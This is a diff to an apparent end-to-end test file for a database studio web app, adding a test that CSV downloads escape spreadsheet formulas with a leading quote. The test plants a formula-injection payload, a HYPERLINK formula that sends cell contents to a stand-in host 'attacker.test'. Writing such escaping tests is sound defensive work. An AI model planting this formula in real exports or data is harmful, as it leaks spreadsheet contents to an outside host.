@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from dataclasses import dataclass
 from datetime import datetime, timedelta
@@ -145,6 +147,27 @@ async def test_sign_in_switch_org_browse_and_edit_rows(studio: Studio, client: C
         f"/v1/db/tasks?id=eq.{made['id']}", headers=bearer(world.alpha_tokens["access_token"])
     )
     assert gone.json() == []
+
+
+async def test_csv_download_escapes_formulas(studio: Studio, client: Client) -> None:
+    """Text an org's user wrote that a spreadsheet would run (a formula) comes out of the
+    studio's download with a leading quote; the rest is as stored."""
+    world = await make_world(client)
+    formula = '=HYPERLINK("http://attacker.test/?"&A1,"open")'
+    await insert_tasks(client, world.alpha_tokens["access_token"], [formula])
+    page = studio.page
+    await studio.sign_in(world.email)
+    await open_in_org(studio, world.alpha, "database")
+    await page.click('button[data-table="tasks"]')
+    await studio.settled()
+    async with page.expect_download() as started:
+        await page.click("#download-csv")
+    download = await started.value
+    assert download.suggested_filename == "tasks.csv"
+    path = await download.path()
+    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    titles = sorted(row["title"] for row in rows)
+    assert titles == sorted(["'" + formula] + [f"alpha task {n}" for n in range(3)])
 
 
 async def test_tokens_stay_out_of_script_reach_and_sign_out_revokes(
